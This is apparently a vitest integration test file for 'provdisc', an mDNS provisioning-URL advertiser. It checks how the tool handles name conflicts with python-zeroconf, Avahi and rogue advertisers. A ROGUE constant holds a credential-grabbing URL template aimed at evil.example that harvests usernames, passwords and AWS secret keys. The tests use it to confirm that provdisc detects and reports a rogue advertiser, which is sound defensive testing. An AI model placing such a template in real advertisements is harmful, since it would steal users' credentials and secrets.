/**
 * Name conflicts on the wire (issue 3 §2 probing, §3): two provdisc probing at once, a name already
 * held by python-zeroconf or Avahi, a rogue claiming the name of a live advertiser, and two
 * advertisers that disagree. Host c only watches (tshark) and discovers; a and b advertise.
 * provdisc never renames: for Jitsi a renamed instance is a missing one.
 */
import { beforeAll, describe, expect, test } from 'vitest';
import { TYPE, type CapturedPacket } from '../lab/capture.js';
import type { LabHost } from '../lab/host.js';
import { zeroconfRegister } from '../lab/peers.js';
import type { SpawnedProcess } from '../lab/process.js';
import { requirePeers } from '../lab/requirements.js';
import { useLab } from '../lab/vitest.js';
import { announcements, INSTANCE, instanceNamesSent, queriesFrom, responsesFrom, templateTxt } from './fixtures/wire.js';

const need = requirePeers(['tshark', 'zeroconf', 'avahi']);
// same length, so the TXT records (compared first, RFC 6762 §8.2) differ only at prov-a / prov-b
const TEMPLATE_A = 'https://prov-a.example/p.php?username=${username}&osname=${osname}';
const TEMPLATE_B = 'https://prov-b.example/p.php?username=${username}&osname=${osname}';
const ROGUE = 'https://evil.example/grab.php?username=${username}&password=${password}&secret=${env.AWS_SECRET_ACCESS_KEY}';

type Outcome = { announced: true } | { announced: false; code: number | null };

/** Waits until the advertiser either announced or exited. */
async function outcomeOf(adv: SpawnedProcess): Promise<Outcome> {
  try {
    await adv.waitForLine(/"event":"announced"/, 20_000);
    return { announced: true };
  } catch {
    // exited first (or never announced in time)
    return { announced: false, code: adv.running ? null : (await adv.exited).code };
  }
}

/** provdisc advertise in `host` while `holder` holds the name: it must give up, naming the holder. */
async function expectRefused(host: LabHost, holder: LabHost, heldTemplate: string, watcher: LabHost): Promise<CapturedPacket[]> {
  const capture = await watcher.capture('eth0');
  const adv = host.spawnProvdisc(['advertise', '--json', TEMPLATE_A]);
  const exit = await adv.exited;
  const packets = await capture.stop();
  expect(exit.code, adv.tail()).toBe(1);
  const stderr = adv.lines.stderr.join('\n');
  expect(stderr).toMatch(/^provdisc: error: /m);
  expect(stderr).toContain(`already advertised by ${holder.ipv4}`);
  expect(stderr).toContain(heldTemplate); // what the other host advertises, rebuilt from its TXT
  expect(stderr).not.toMatch(/\n\s+at /);
  expect(adv.lines.stdout.join('\n')).not.toMatch(/"event":"announced"/);
  // it probed, heard the defence and stopped: nothing announced, no other name tried
  expect(queriesFrom(packets, host.ipv4).some((p) => p.questions.some((q) => q.name === INSTANCE && q.type === TYPE.ANY))).toBe(true);
  expect(responsesFrom(packets, host.ipv4)).toEqual([]);
  expect([...instanceNamesSent(packets, host.ipv4)]).toEqual([INSTANCE]);
  return packets;
}

describe(`name conflicts on one bridged link${need.note}`, { skip: need.skip }, () => {
  const lab = useLab({ topology: 'bridge' }, need);
  let a: LabHost;
  let b: LabHost;
  let c: LabHost;
  beforeAll(() => {
    [a, b, c] = [lab().host('a'), lab().host('b'), lab().host('c')];
  });

  test('simultaneous probes: exactly one announces, the other exits 1 naming the winner; the lexicographically later records win', async () => {
    const capture = await c.capture('eth0');
    const advA = a.spawnProvdisc(['advertise', '--json', TEMPLATE_A]);
    const advB = b.spawnProvdisc(['advertise', '--json', TEMPLATE_B]);
    const [outA, outB] = await Promise.all([outcomeOf(advA), outcomeOf(advB)]);
    const [loser, loserHost, winnerHost] = outA.announced ? [advB, b, a] : [advA, a, b];
    // the loser is given the time to lose: its back-off, a new probe, the winner's defence
    await Promise.race([loser.exited, new Promise((r) => setTimeout(r, 5_000))]);
    const packets = await capture.stop();
    await Promise.all([advA.stop(), advB.stop()]);

    expect([outA.announced, outB.announced].filter(Boolean), `both or neither announced:\n${advA.tail()}\n${advB.tail()}`).toHaveLength(1);
    expect(loser.lines.stdout.join('\n'), 'the loser announced').not.toMatch(/"event":"announced"/);
    expect((await loser.exited).code).toBe(1);
    expect(loser.lines.stderr.join('\n')).toContain(`already advertised by ${winnerHost.ipv4}`);

    // both probed before anyone announced: the tie-break decided, not who came first
    const firstAnnouncement = announcements(packets, winnerHost.ipv4)[0]!;
    const probesBefore = (h: LabHost) =>
      queriesFrom(packets, h.ipv4).filter((p) => p.time < firstAnnouncement.time && p.authorities.some((r) => r.name === INSTANCE));
    expect(probesBefore(loserHost).length, 'the loser probed only after the winner announced').toBeGreaterThan(0);
    expect(probesBefore(winnerHost).length).toBeGreaterThan(0);
    // §8.2: TXT (type 16) is compared before SRV; "prov-b" > "prov-a"
    expect(winnerHost).toBe(b);
    expect(announcements(packets, loserHost.ipv4)).toEqual([]);
    expect([...instanceNamesSent(packets, loserHost.ipv4)]).toEqual([INSTANCE]);
  });

  test('a name held by python-zeroconf: provdisc exits 1, names the holder and its template, never renames', async () => {
    const held = await zeroconfRegister(b, { txt: templateTxt(TEMPLATE_B), server: `${b.name}.local.` });
    try {
      await expectRefused(a, b, TEMPLATE_B, c);
    } finally {
      await held.stop();
    }
  });

  test('a name held by avahi-publish: provdisc exits 1, names the holder and its template, never renames', async () => {
    const avahi = await b.startAvahi();
    try {
      await avahi.publish('Provisioning URL', '_https._tcp', 443, templateTxt(TEMPLATE_B));
      await expectRefused(a, b, TEMPLATE_B, c);
    } finally {
      await avahi.stop();
    }
  });

  test('a rogue claiming the name of a live advertiser (no probing): provdisc stops and exits 1 naming it', async () => {
    const adv = a.spawnProvdisc(['advertise', '--json', TEMPLATE_A]);
    await adv.waitForLine(/"event":"announced"/, 15_000);
    const rogue = await zeroconfRegister(b, { txt: templateTxt(ROGUE), server: `${b.name}.local.`, rogue: true });
    try {
      const exit = await Promise.race([adv.exited, new Promise<null>((r) => setTimeout(() => r(null), 10_000))]);
      expect(exit?.code, adv.tail()).toBe(1);
      // with --json every event, the conflict included, is a JSON line on stdout
      const events = adv.lines.stdout.map((l) => JSON.parse(l) as { event: string; from?: string; message?: string });
      const conflict = events.find((e) => e.event === 'conflict');
      expect(conflict).toMatchObject({ from: b.ipv4 });
      expect(conflict!.message).toContain(`already advertised by ${b.ipv4}`);
      expect(conflict!.message).toContain(ROGUE);
    } finally {
      await adv.stop();
      await rogue.stop();
    }
  });

  test('discover --all lists two advertisers that disagree (provdisc, and a rogue python-zeroconf) and warns', async () => {
    const adv = a.spawnProvdisc(['advertise', '--json', TEMPLATE_A]);
    await adv.waitForLine(/"event":"announced"/, 15_000);
    // the rogue takes the _http twin of the name: on the same name provdisc would stop (test above)
    const rogueTemplate = ROGUE.replace('https:', 'http:');
    const rogue = await zeroconfRegister(b, {
      txt: templateTxt(rogueTemplate),
      server: `${b.name}.local.`,
      port: 80,
      type: '_http._tcp.local.',
      rogue: true,
    });
    try {
      const run = await c.provdisc(['discover', '--all', '--json', '--timeout', '2000']);
      expect(run.code, run.stderr).toBe(0);
      const found = (JSON.parse(run.stdout) as { template: string; from: string; type: string }[]).map((s) => [s.from, s.type, s.template]);
      expect(found.sort()).toEqual(
        [
          [a.ipv4, '_https._tcp', TEMPLATE_A],
          [b.ipv4, '_http._tcp', rogueTemplate],
        ].sort(),
      );
      expect(run.stderr).toMatch(/2 advertisers disagree/);
      expect(run.stderr).toContain(TEMPLATE_A);
      expect(run.stderr).toContain(rogueTemplate);
      expect(adv.running).toBe(true);
    } finally {
      await adv.stop();
      await rogue.stop();
    }
  });
});
